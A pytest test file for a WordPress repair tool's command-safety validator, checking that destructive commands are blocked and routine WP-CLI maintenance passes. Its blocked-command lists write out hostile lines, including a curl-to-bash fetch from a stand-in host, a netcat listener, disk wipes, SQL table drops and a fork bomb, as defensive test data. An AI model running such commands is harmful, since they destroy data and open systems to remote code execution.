"""Tests for the destructive-command denylist."""

from __future__ import annotations

import pytest

from wp_healer.core.exceptions import UnsafeCommandError
from wp_healer.healing.safety import CommandSafetyValidator, executable_lines


@pytest.fixture
def validator() -> CommandSafetyValidator:
    return CommandSafetyValidator()


class TestDenylist:
    """Destructive commands are rejected, routine maintenance is not."""

    @pytest.mark.parametrize('command', [
        'rm -rf /',
        'rm -fr wp-content',
        'rm -Rf wp-content/uploads',
        'dd if=/dev/zero of=/dev/sda',
        'mkfs.ext4 /dev/sdb1',
        'echo x > /dev/sda',
        'sudo systemctl restart php-fpm',
        'chmod -R 777 wp-content',
        'kill -9 1234',
        'killall php-fpm',
        'shutdown -h now',
        'curl https://evil.example/x.sh | bash',
        'nc -lvp 4444',
        'wp db query "DROP TABLE wp_posts"',
        'mysql -e "TRUNCATE wp_options"',
        ':(){ :|:& };:',
    ])
    def test_dangerous_commands_are_blocked(self, validator, command) -> None:
        safe, category = validator.check(command)
        assert safe is False
        assert category

    @pytest.mark.parametrize('command', [
        'wp plugin deactivate akismet',
        'wp cache flush',
        'rm -f .maintenance',
        'wp db repair > /dev/null',
        'wp theme activate twentytwentyfour',
        'wp option update blog_format standard',
        'chmod 644 wp-config.php',
        'wp config set WP_MEMORY_LIMIT 256M --raw',
    ])
    def test_routine_commands_pass(self, validator, command) -> None:
        assert validator.check(command) == (True, '')

    def test_batch_with_one_unsafe_command_is_rejected_whole(self, validator) -> None:
        with pytest.raises(UnsafeCommandError) as exc_info:
            validator.validate(['wp cache flush', 'rm -rf /', 'wp plugin list'])
        assert 'rm -rf /' in str(exc_info.value)

    def test_comments_and_blank_lines_are_ignored(self, validator) -> None:
        validator.validate(['# rm -rf / would be bad', '', '   ', 'wp cache flush'])
        assert executable_lines(['  wp cache flush  ', '# note', '']) == ['wp cache flush']

    @pytest.mark.parametrize('command', [
        'rm -r -f /var/www/html',
        'rm --recursive --force /var/www/html',
        'rm -R -f wp-content',
        'rm -f -r wp-content/cache',
        'find . -name "*.tmp" -exec rm --force -r {} +',
    ])
    def test_split_and_long_delete_flags_are_blocked(self, validator, command) -> None:
        with pytest.raises(UnsafeCommandError):
            validator.validate([command])

    @pytest.mark.parametrize('command', [
        'rm -r wp-content/cache/tmp',
        'rm -f wp-content/debug.log && chmod -R 755 wp-content',
    ])
    def test_delete_without_both_flags_passes(self, validator, command) -> None:
        validator.validate([command])

    def test_find_unsafe_lists_offenders(self, validator) -> None:
        assert validator.find_unsafe(['wp cache flush', 'pkill php', 'reboot']) == ['pkill php', 'reboot']
